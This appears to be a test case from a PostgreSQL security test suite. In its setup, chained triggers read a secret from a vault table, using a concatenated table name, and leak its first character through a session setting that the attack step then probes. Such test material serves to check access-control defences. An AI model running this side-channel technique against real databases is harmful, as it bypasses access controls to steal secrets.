-- Has a trigger that runs a constant text fill a table, whose own trigger makes up a parameter by a letter.
-- wants: read
-- shows: letter-116
-- setup:
CREATE TABLE told (v text);
CREATE FUNCTION coin() RETURNS trigger LANGUAGE plpgsql AS $$ DECLARE value text; BEGIN
  EXECUTE 'SELECT secret FROM vlt_' || 'account WHERE id = 1' INTO value;
  PERFORM set_config('x.y1_' || ascii(value), '', true);
  RETURN NEW;
END $$;
CREATE TRIGGER coin BEFORE INSERT ON told FOR EACH ROW EXECUTE FUNCTION coin();
CREATE FUNCTION pass_on() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN
  EXECUTE 'INSERT INTO told VALUES ($1)' USING NEW.v;
  RETURN NEW;
END $$;
CREATE TABLE tame (v text);
CREATE TRIGGER pass_on BEFORE INSERT ON tame FOR EACH ROW EXECUTE FUNCTION pass_on();
GRANT ALL ON told, tame TO PUBLIC;
-- attack:
INSERT INTO tame VALUES ('a');
-- repeat: 112..118
SELECT 'letter' || '-{n}' WHERE current_setting('x.y1_{n}', true) IS NOT NULL;
